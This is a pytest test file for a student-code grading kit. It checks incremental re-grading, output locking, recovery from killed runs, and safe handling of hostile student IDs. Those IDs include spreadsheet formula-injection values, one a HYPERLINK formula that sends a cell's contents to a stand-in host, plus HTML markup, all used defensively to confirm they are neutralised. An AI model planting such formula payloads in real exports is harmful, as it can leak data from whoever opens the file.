"""Grading outputs: hostile ids, re-grading only what changed, an interrupted run repaired, one writer at a time.

Each test grades a small class for real (the sandbox, a pinned seed) and checks, with
:func:`outputs_helpers.assert_consistent`, that grades.csv, every feedback.md,
results.json and grade.json, mistakes.csv and report.html are there and agree.
"""
from __future__ import annotations

import csv
import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
from click.testing import CliRunner

from rnnkit.cli import main
from rnnkit.grading import discover, grade_class
from rnnkit.outputs.files import OutputLock, OutputLocked
from rnnkit.outputs.run import grade_into

from .conftest import ROOT, make_class, reference_source
from .outputs_helpers import assert_consistent, grades_rows, mistakes_rows, read_report

SEED = 7
RNNKIT = [sys.executable, "-m", "rnnkit.cli"]
WRONG_STEP = ("np.tanh(U @ x_t + W @ s_prev)", "np.tanh(U @ x_t + W.T @ s_prev)")

#: Names a spreadsheet would run, that look like two students, or that are the kit's own file names.
HOSTILE_IDS = [
    '=HYPERLINK("x.example?"&A1,"click")', "+1+2", "-3", "@SUM(A1:A9)", "'quoted", "ann bob", "a, b",
    "grades.csv", "mistakes.csv", "report.html", "manifest.json", "students", "<b>bold & co", "a`b*c_d#e",
]
REFUSED = ["bell\x07name", "tab\tname"]


def _counting(course, calls: list):
    def run(subs, on_student_done=None):
        calls.append(sorted(s.student for s in subs))
        return grade_class(subs, course, seed=SEED, jobs=2, on_student_done=on_student_done)

    return run


@pytest.fixture
def sources(course):
    good = reference_source(course, "rnn_forward")
    assert WRONG_STEP[0] in good
    return good, good.replace(*WRONG_STEP)


def test_hostile_ids_are_graded_safely_and_the_rest_of_the_class_too(course, sources, tmp_path, capsys):
    good, wrong = sources
    students = {name: {"rnn_forward.py": wrong if i % 2 else good} for i, name in enumerate(HOSTILE_IDS)}
    students.update({name: {"rnn_forward.py": good} for name in REFUSED})
    class_dir = make_class(tmp_path / "class", students)
    out = tmp_path / "out"
    run = grade_into(out, discover(class_dir, course), course, _counting(course, []), seed=SEED)

    totals = assert_consistent(out, set(HOSTILE_IDS), course)
    assert len({t for t in totals.values()}) == 2  # the right and the wrong rnn_forward
    assert [r["name"] for r in run.refused] == ["bell\\x07name", "tab\\x09name"]
    manifest = json.loads((out / "manifest.json").read_text())
    assert [r["name"] for r in manifest["refused"]] == ["bell\\x07name", "tab\\x09name"]
    assert "control character U+0007" in manifest["refused"][0]["reason"]
    report = read_report(out / "report.html")
    assert "refused" in report.sections

    # CSV: no cell a spreadsheet would run, and the ids read back exactly.
    with open(out / "grades.csv", newline="", encoding="utf-8") as f:
        cells = [row[0] for row in csv.reader(f)][1:]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert set(grades_rows(out)) == set(HOSTILE_IDS)
    # mistakes.csv: "ann bob" is one student, never two.
    (row,) = [r for r in mistakes_rows(out) if r["mistake"] == "step_W_transposed"]
    wrong_ids = {name for i, name in enumerate(HOSTILE_IDS) if i % 2}
    assert int(row["students"]) == len(wrong_ids)
    # The kit's own files are the class files, not a student's folder.
    assert (out / "grades.csv").is_file() and (out / "students" / "grades.csv" / "feedback.md").is_file()
    # HTML: names are text, never markup.
    assert "<b>bold" not in (out / "report.html").read_text(encoding="utf-8")
    assert read_report(out / "report.html").tags.count("b") == 5  # the five figures at the top, no more


def test_only_new_or_changed_students_are_graded_again(course, sources, tmp_path):
    good, wrong = sources
    class_dir = make_class(tmp_path / "class", {"amy": {"rnn_forward.py": good}, "ben": {"rnn_forward.py": wrong}, "cat": {"rnn_forward.py": good}})
    out, calls = tmp_path / "out", []
    grade = _counting(course, calls)
    grade_into(out, discover(class_dir, course), course, grade, seed=SEED)
    first = assert_consistent(out, {"amy", "ben", "cat"}, course)
    amy_feedback = (out / "students" / "amy" / "feedback.md").read_bytes()

    run = grade_into(out, discover(class_dir, course), course, grade, seed=SEED)  # nothing changed
    assert len(calls) == 1 and sorted(run.kept) == ["amy", "ben", "cat"] and not run.graded
    assert assert_consistent(out, {"amy", "ben", "cat"}, course) == first

    (class_dir / "ben" / "rnn_forward.py").write_text(good, encoding="utf-8")  # ben hands in late work
    make_class(class_dir, {"dan": {"rnn_forward.py": wrong}})  # a new student
    os.utime(class_dir / "amy" / "rnn_forward.py")  # touched, same content: kept
    run = grade_into(out, discover(class_dir, course), course, grade, seed=SEED)
    assert calls[-1] == ["ben", "dan"] and sorted(run.kept) == ["amy", "cat"]
    after = assert_consistent(out, {"amy", "ben", "cat", "dan"}, course)
    assert after["ben"] == first["amy"] > after["dan"] == first["ben"]
    assert (out / "students" / "amy" / "feedback.md").read_bytes() == amy_feedback
    assert "ben" not in {i for r in mistakes_rows(out) for i in r["student_ids"].split("\n")}

    import shutil

    shutil.rmtree(class_dir / "cat")  # a student who left the class
    grade_into(out, discover(class_dir, course), course, grade, seed=SEED)
    assert len(calls) == 2  # nobody to grade
    assert_consistent(out, {"amy", "ben", "dan"}, course)
    assert not (out / "students" / "cat").exists()

    grade_into(out, discover(class_dir, course), course, grade, seed=SEED, full=True)
    assert calls[-1] == ["amy", "ben", "dan"]
    # A feedback file damaged by hand (or cut short) is graded again; so is everyone when the seed changes.
    (out / "students" / "dan" / "results.json").write_text("{", encoding="utf-8")
    grade_into(out, discover(class_dir, course), course, grade, seed=SEED)
    assert calls[-1] == ["dan"]
    assert_consistent(out, {"amy", "ben", "dan"}, course)


def test_a_second_writer_is_refused_with_a_message_naming_the_first(course, sources, tmp_path):
    class_dir = make_class(tmp_path / "class", {"amy": {"rnn_forward.py": sources[0]}})
    out = tmp_path / "out"
    with OutputLock(out):
        with pytest.raises(OutputLocked) as refused:
            grade_into(out, discover(class_dir, course), course, _counting(course, []), seed=SEED)
    assert f"pid {os.getpid()}" in str(refused.value) and "another rnnkit run" in str(refused.value)
    assert not (out / "grades.csv").exists()
    grade_into(out, discover(class_dir, course), course, _counting(course, []), seed=SEED)  # the lock is free again
    assert_consistent(out, {"amy"}, course)


SLOW = "import time\ntime.sleep(8)\n"  # under load_seconds (10 s): graded, slowly


def _wait_for(predicate, what: str, run: subprocess.Popen, log: Path, limit: float = 120.0):
    """Wait until ``predicate()`` holds while ``run`` is still going; fail with the run's output otherwise."""
    deadline = time.monotonic() + limit
    while time.monotonic() < deadline:
        if predicate():
            return
        if run.poll() is not None:
            raise AssertionError(f"the run exited ({run.returncode}) before {what}:\n{log.read_text(errors='replace')[-2000:]}")
        time.sleep(0.1)
    raise AssertionError(f"gave up waiting for {what}:\n{log.read_text(errors='replace')[-2000:]}")


def _manifest(out: Path) -> dict:
    try:
        return json.loads((out / "manifest.json").read_text(encoding="utf-8"))
    except (OSError, ValueError):
        return {}


def test_kill_9_mid_run_and_a_concurrent_run_then_the_next_run_repairs_the_folder(course, sources, tmp_path):
    good, wrong = sources
    class_dir = make_class(tmp_path / "class", {f"s{i}": {"rnn_forward.py": good if i % 2 else wrong} for i in range(4)})
    out = tmp_path / "out"
    command = [*RNNKIT, "grade", str(class_dir), "--out", str(out), "--seed", str(SEED), "--jobs", "2"]
    grade_into(out, discover(class_dir, course), course, _counting(course, []), seed=SEED)
    before = assert_consistent(out, {"s0", "s1", "s2", "s3"}, course)

    # Late work: s0 fixes the function, and s4 is new; their files sleep at first, so the run takes a while.
    (class_dir / "s0" / "rnn_forward.py").write_text(SLOW + good, encoding="utf-8")
    make_class(class_dir, {"s4": {"rnn_forward.py": SLOW + good}})
    assert _manifest(out)["complete"] is True
    log = tmp_path / "victim.log"
    with open(log, "w", encoding="utf-8") as output:
        victim = subprocess.Popen([*command[:-1], "1"], cwd=ROOT, stdout=output, stderr=subprocess.STDOUT, start_new_session=True)
    try:
        # The run marks the manifest, then rebuilds report.html with its banner: wait for both (on a busy machine they
        # are a moment apart). Only this run can mark the manifest incomplete ("started" is to the second, and the two
        # runs may start within one).
        _wait_for(lambda: _manifest(out).get("complete") is False, "the run to start", victim, log)
        _wait_for(lambda: "incomplete" in read_report(out / "report.html").sections, "the report to say a run is under way", victim, log)
        second = CliRunner().invoke(main, command[3:])  # a second run into the same folder, meanwhile
        assert second.exit_code != 0
        assert f"being written by another rnnkit run (pid {victim.pid}" in " ".join(second.output.split()), second.output[-2000:]
        os.killpg(victim.pid, signal.SIGKILL)
    finally:
        if victim.poll() is None:
            os.killpg(victim.pid, signal.SIGKILL)
        victim.wait()

    # The folder says it is from a run that did not finish, in the manifest and in the report.
    assert _manifest(out)["complete"] is False
    assert "incomplete" in read_report(out / "report.html").sections
    assert grades_rows(out)["s0"]["total"] == f"{before['s0']:g}"  # still the old grade, and the folder says so

    for student in ("s0", "s4"):  # and they hand in again, a file that loads at once
        (class_dir / student / "rnn_forward.py").write_text(good, encoding="utf-8")
    third = CliRunner().invoke(main, command[3:])
    assert third.exit_code == 0, third.output[-2000:]
    assert "had not finished; this run completed it" in " ".join(third.output.split())
    after = assert_consistent(out, {"s0", "s1", "s2", "s3", "s4"}, course)
    assert after["s0"] == after["s4"] == before["s1"] > before["s0"]


class _Killed(BaseException):
    """Stands for kill -9 in the middle of writing the students' files."""


def test_a_run_killed_while_writing_leaves_a_folder_that_says_so_and_the_next_run_repairs_it(course, sources, tmp_path, monkeypatch):
    import rnnkit.outputs.run as run_module

    good, wrong = sources
    names = [f"s{i}" for i in range(5)]
    class_dir = make_class(tmp_path / "class", {n: {"rnn_forward.py": wrong} for n in names})
    out, calls = tmp_path / "out", []
    grade_into(out, discover(class_dir, course), course, _counting(course, calls), seed=SEED)
    before = assert_consistent(out, set(names), course)
    for n in names:  # everyone hands in a fix
        (class_dir / n / "rnn_forward.py").write_text(good, encoding="utf-8")

    real, written = run_module._write_one, []

    def dies_after_two(student, *args):
        if len(written) == 2:
            raise _Killed()
        real(student, *args)
        written.append(student.student)

    monkeypatch.setattr(run_module, "_write_one", dies_after_two)
    with pytest.raises(_Killed):
        grade_into(out, discover(class_dir, course), course, _counting(course, calls), seed=SEED)
    monkeypatch.setattr(run_module, "_write_one", real)

    # Two students have new feedback, three old, grades.csv is all old: and the folder says so.
    assert _manifest(out)["complete"] is False
    assert "incomplete" in read_report(out / "report.html").sections
    assert {n: float(r["total"]) for n, r in grades_rows(out).items()} == before

    run = grade_into(out, discover(class_dir, course), course, _counting(course, calls), seed=SEED)
    assert run.repaired and sorted(run.kept) == sorted(written) and calls[-1] == sorted(set(names) - set(written))
    after = assert_consistent(out, set(names), course)
    assert len(set(after.values())) == 1 and min(after.values()) > max(before.values())


def test_each_students_files_are_written_as_soon_as_they_are_graded(course, sources, tmp_path):
    good, wrong = sources
    class_dir = make_class(tmp_path / "class", {f"s{i}": {"rnn_forward.py": good if i % 2 else wrong} for i in range(4)})
    out, seen = tmp_path / "out", []

    def grade(subs, on_student_done):
        def announced(student):
            on_student_done(student)
            # Written now, while the class is still being graded: the later students are not there yet.
            seen.append((student.student, (out / "students" / student.student / "feedback.md").is_file(),
                         sum((out / "students" / s.student / "grade.json").is_file() for s in subs)))

        return grade_class(subs, course, seed=SEED, jobs=1, on_student_done=announced)

    grade_into(out, discover(class_dir, course), course, grade, seed=SEED)
    assert sorted(name for name, _, _ in seen) == [f"s{i}" for i in range(4)]
    assert all(written for _, written, _ in seen)
    assert [count for _, _, count in seen] == [1, 2, 3, 4]
    assert_consistent(out, {f"s{i}" for i in range(4)}, course)
